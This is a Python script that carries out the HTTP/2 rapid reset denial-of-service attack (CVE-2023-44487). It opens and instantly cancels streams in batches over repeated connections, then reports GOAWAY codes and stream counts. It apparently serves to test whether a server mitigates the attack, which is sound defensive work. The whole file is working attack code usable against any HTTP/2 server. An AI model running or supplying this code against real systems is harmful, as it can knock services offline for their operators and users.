"""HTTP/2 rapid reset (CVE-2023-44487): HEADERS then RST_STREAM(CANCEL), in a loop.

Streams are opened and cancelled at once, in batches, on one connection
until the server sends GOAWAY or closes it; then the attacker reconnects and
goes on, as a real one would, until `--seconds` are over. Prints a JSON
summary: connections and how each ended (a GOAWAY read; closed by the
server, whose reset can discard a GOAWAY not read yet; or cut by our own
time limit), the GOAWAY codes, streams sent, streams per connection.

Usage: rapid_reset.py HOST PORT --path PATH --seconds S
"""

import argparse
import asyncio
import collections
import json
import time

import h2.exceptions

from h2wire import H2Client, rest_request_headers


async def attack(host, port, path, until, batch, per_connection_limit):
    client = await H2Client.connect(host, port)
    await asyncio.wait_for(client.settings_received.wait(), 5)
    headers = rest_request_headers(f"{host}:{port}", path)
    sent = 0
    while client.alive and time.monotonic() < until and sent < per_connection_limit:
        try:
            for _ in range(batch):
                stream_id = client.conn.get_next_available_stream_id()
                client.conn.send_headers(stream_id, headers, end_stream=True)
                client.conn.reset_stream(stream_id, error_code=8)
                sent += 1
        except h2.exceptions.ProtocolError:
            break
        await client.drain()
        await asyncio.sleep(0)
    try:
        await asyncio.wait_for(client.closed.wait(), 2)
    except asyncio.TimeoutError:
        pass
    client.close()
    ended_by = "goaway" if client.goaway else "closed" if client.closed.is_set() else "client-limit"
    return sent, client.goaway, ended_by


async def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("--path", default="/service-a/status")
    parser.add_argument("--seconds", type=float, default=6.0)
    parser.add_argument("--batch", type=int, default=100)
    parser.add_argument("--per-connection", type=int, default=100_000)
    args = parser.parse_args()

    started = time.monotonic()
    until = started + args.seconds
    connections = []
    while time.monotonic() < until:
        connections.append(await attack(args.host, args.port, args.path, until, args.batch, args.per_connection))
    codes = collections.Counter(f"{g['code']} {g['debug']}".strip() if g else "none" for _, g, _ in connections)
    with_goaway = sorted(sent for sent, g, _ in connections if g)
    print(json.dumps({
        "seconds": round(time.monotonic() - started, 3),
        "connections": len(connections),
        "goaways": sum(1 for _, g, _ in connections if g),
        "ended_by": dict(collections.Counter(ended for _, _, ended in connections)),
        "goaway_codes": dict(codes),
        "streams_sent": sum(sent for sent, _, _ in connections),
        "streams_before_goaway_median": with_goaway[len(with_goaway) // 2] if with_goaway else None,
    }))


if __name__ == "__main__":
    asyncio.run(main())
